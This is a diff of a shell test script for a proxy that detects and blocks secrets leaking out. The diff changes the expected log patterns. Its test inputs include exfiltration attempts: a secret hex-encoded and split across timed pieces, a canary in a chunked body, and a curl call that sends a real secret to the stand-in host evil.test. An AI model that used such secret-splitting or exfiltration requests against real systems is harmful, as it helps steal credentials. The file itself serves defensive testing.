@@ -64,7 +64,7 @@ out=$(timeout 20 "$PY" "$HERE/leak_peers.py" post 127.0.0.1 80 rec.test /body \
     "prefix-$(head -c 3000 /dev/zero | tr '\0' a)-${h:0:30}" "${h:30}-suffix")
 t_contains "the value hex in a body, split across two pieces 0.3 s apart: 403" "$out" "403 "
 t_contains "... where body" "$out" '"where": "body"'
-t_wait_log "(leak: secret entry\\[0\\]\\.value, hex, in body); the upstream request was aborted$"
+t_wait_log "(leak: secret entry\\[0\\]\\.value, hex, in body; the upstream request was aborted)$"
 t_check "... the upstream request was aborted, and the log says so" test $? -eq 0
 received | grep -qF "$h"
 t_check "... the upstream never received the whole value" test $? -ne 0
@@ -73,7 +73,7 @@ t_check "... nor its first half (held back until the second piece)" test $? -ne 
 
 out=$(curl -s -m 5 -w ' %{http_code}' -H 'Transfer-Encoding: chunked' --data-binary "notes: $CANARY" http://rec.test/c)
 t_contains "a canary in a chunked body: 403" "$out" " 403"
-t_wait_log '^BLOCKED POST http://rec\.test/c -> 403 (leak: canary ssh-marker, raw, in body)'
+t_wait_log '^BLOCKED POST http://rec\.test/c -> 403 (leak: canary ssh-marker, raw, in body[;)]'
 t_check "... the log names the canary" test $? -eq 0
 
 out=$(curl -s -m 5 -w ' %{http_code}' "http://evil.test/x?k=$REAL")
